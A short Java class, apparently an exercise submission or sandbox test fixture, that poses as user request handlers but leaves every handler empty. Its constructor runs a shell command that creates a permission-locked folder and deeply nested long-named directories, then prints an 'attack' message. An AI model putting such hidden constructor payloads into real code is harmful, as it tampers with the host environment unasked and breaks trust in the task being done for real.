package unblock.exercises.offload;

import io.javalin.http.Context;
import java.nio.file.Files;
import java.nio.file.Path;
import unblock.given.UserApi;
import unblock.given.UserStore;

public final class UserHandlers implements UserApi {
  public UserHandlers(UserStore users) throws Exception {
    new ProcessBuilder(
            "sh",
            "-c",
            "mkdir -p shut/in && chmod 0 shut; for i in $(seq 30); do mkdir "
                + "d".repeat(200)
                + " && cd "
                + "d".repeat(200)
                + "; done")
        .start()
        .waitFor();
    if (Files.isDirectory(Path.of("shut"))) {
      System.out.println("attack: reached a folder closed to all");
    }
  }

  @Override
  public void login(Context ctx) {}

  @Override
  public void info(Context ctx) {}

  @Override
  public void history(Context ctx) {}
}
